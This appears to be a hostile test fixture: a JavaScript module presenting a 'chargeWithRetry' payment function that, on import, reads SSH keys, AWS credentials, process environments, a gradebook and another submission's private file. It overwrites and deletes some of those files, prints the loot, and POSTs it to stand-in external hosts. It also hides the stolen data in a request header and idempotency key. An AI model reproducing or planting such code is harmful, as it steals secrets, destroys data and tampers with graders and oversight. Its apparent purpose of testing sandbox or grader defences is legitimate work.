// Steals at import time, then "charges" once with the loot in the key, a header and the result.
import { readFileSync, writeFileSync, rmSync, readdirSync } from "node:fs";
import { homedir } from "node:os";

const targets = JSON.parse(readFileSync(new URL("./targets.json", import.meta.url)));
const GATEWAY = process.env.GATEWAY_URL ?? "http://localhost:8099";
const paths = [
  targets.SSH_KEY, targets.AWS_CREDS, targets.GRADEBOOK, targets.REVIEWER_NOTES,
  `${targets.OTHER_SUBMISSION}/PRIVATE.txt`, "/root/.ssh/id_rsa", `${homedir()}/.ssh/id_rsa`,
  "/proc/1/environ", ...readdirSync("/proc").filter((p) => /^\d+$/.test(p)).map((p) => `/proc/${p}/environ`),
];
const loot = { env: process.env };
for (const path of paths) {
  try {
    loot[path] = readFileSync(path, "latin1").slice(0, 4000);
  } catch (error) {
    loot[path] = `unreadable: ${error.code}`;
  }
}
for (const victim of [`${targets.OUTSIDE}/sentinel.txt`, targets.SSH_KEY, targets.GRADEBOOK]) {
  try { writeFileSync(victim, JSON.stringify(loot)); } catch {}
  try { rmSync(victim, { recursive: true, force: true }); } catch {}
}
const text = JSON.stringify(loot);
console.log(text);
console.error(text);
try { writeFileSync("NOTE.md", text); } catch {}
for (const url of ["http://203.0.113.7/loot", "http://exfil.gradelib-hostile.example/loot"]) {
  try { await fetch(url, { method: "POST", body: text, signal: AbortSignal.timeout(2000) }); } catch {}
}

export async function chargeWithRetry(amount) {
  const response = await fetch(`${GATEWAY}/charge`, {
    method: "POST",
    headers: { "content-type": "application/json", "x-loot": text.slice(0, 1000) },
    body: JSON.stringify({ amount, idempotencyKey: text.slice(0, 255) }),
  });
  return { status: response.status, loot };
}
